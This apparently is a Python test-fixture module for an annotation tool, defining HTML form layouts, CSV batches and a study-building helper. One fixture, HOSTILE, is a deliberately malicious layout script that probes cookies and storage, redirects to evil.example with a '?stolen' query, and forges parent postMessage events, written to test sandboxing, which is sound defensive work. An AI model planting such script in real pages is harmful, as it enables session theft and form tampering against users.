"""Studies with a layout for tests: an HTML form, a batch, and gold questions."""

from __future__ import annotations

from typing import Any

from annotate.data.services.design import build_design
from annotate.data.services.imports import import_file
from annotate.models import Study
from annotate.studies.services.study import create_study, open_study
from tests.factories import UserFactory

PLAIN = """\
<h2>Read the sentence about ${place}</h2>
<p id="sentence">${text}</p>
<fieldset>
  <legend>What is the topic?</legend>
  <label><input type="radio" name="topic" value="politics" required> Politics</label>
  <label><input type="radio" name="topic" value="sports"> Sports</label>
</fieldset>
<label><input type="checkbox" name="certain"> I am certain</label>
<label>Length <input type="number" name="length" min="0" max="99"></label>
<label>Comment <textarea name="comment"></textarea></label>
<p><input type="submit" value="Submit"></p>
"""
CROWD = """\
<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form answer-format="flatten-objects">
  <crowd-classifier name="topic" categories="['${place}', 'elsewhere']" header="Where does it happen?">
    <classification-target><p id="sentence">${text}</p></classification-target>
    <full-instructions header="All rules"><p>Read the whole sentence.</p></full-instructions>
    <short-instructions>Choose one place.</short-instructions>
  </crowd-classifier>
  <crowd-radio-group>
    <crowd-radio-button name="clear" value="yes">Clear</crowd-radio-button>
    <crowd-radio-button name="unclear" value="yes">Unclear</crowd-radio-button>
  </crowd-radio-group>
  <crowd-checkbox name="funny">The sentence is funny</crowd-checkbox>
  <crowd-slider name="score" label="Score" min="1" max="7"></crowd-slider>
  <crowd-input name="word" label="Most important word" required></crowd-input>
  <crowd-text-area name="comment" label="Comment"></crowd-text-area>
  <crowd-button form-action="submit" variant="primary">Send</crowd-button>
</crowd-form>
"""
# A layout whose scripts try everything that a layout must not do, and write the outcome into a hidden field.
HOSTILE = """\
<p>${text}</p>
<input type="hidden" name="outcome">
<input type="hidden" name="choice">
<button class="option">First</button>
<button type="button" id="away">Away</button>
<script>
  const outcome = [];
  const attempt = (name, act) => {
    try { act(); outcome.push(name + " worked"); } catch (error) { outcome.push(name + " failed"); }
  };
  attempt("page", () => parent.document.title);
  attempt("cookie", () => document.cookie);
  attempt("storage", () => localStorage.length);
  attempt("top", () => { top.location.href = "https://evil.example/"; });
  fetch("/healthz").then(() => outcome.push("fetch worked"), () => outcome.push("fetch failed"));
  document.querySelector(".option").onclick = (event) => {
    event.preventDefault();
    document.querySelector("[name=outcome]").value = outcome.join(", ");
    document.querySelector("[name=choice]").value = "${text}" + event.target.textContent;
  };
  document.getElementById("away").onclick = () => { location.href = "https://evil.example/?stolen"; };
  parent.postMessage({ type: "changed", fields: { choice: "forged" } }, "*");
  for (let times = 0; times < 9; times += 1) parent.postMessage({ type: "ready" }, "*");
</script>
"""
BATCH = "text,place\n" + "".join(f'"Sentence <{n}> & ""more""",Town {n}\n' for n in range(1, 5))
GOLD = "id,text,place,Answer.topic,Answer.certain,explanation\ng1,Vote today.,Rome,politics,,It is about a vote.\n"


def layout_study(layout: str = PLAIN, *, batch: str = BATCH, gold: str = "", draft: bool = False, **more: Any) -> Study:
    """Return a study with this layout and the rows of a batch, which is open unless it is a `draft`."""
    user = UserFactory()
    options = {"layout": layout} | more.pop("options", {})
    settings = {"judgements": 2, "questions_per_hit": 2, "gold_block": 2 if gold else 0, "rule_threshold": 0, "seed": 1}
    study = create_study(
        user=user,
        title="Topics",
        task_type="layout",
        instructions="Fill in the form.",
        options=options,
        **settings | more,
    )
    for purpose, text in (("items", batch), ("gold", gold)):
        if text:
            import_file(study, purpose=purpose, filename=f"{purpose}.csv", data=text.encode(), user=user)
    build_design(study.pk, user=user)
    return study if draft else open_study(study.pk, user=user)
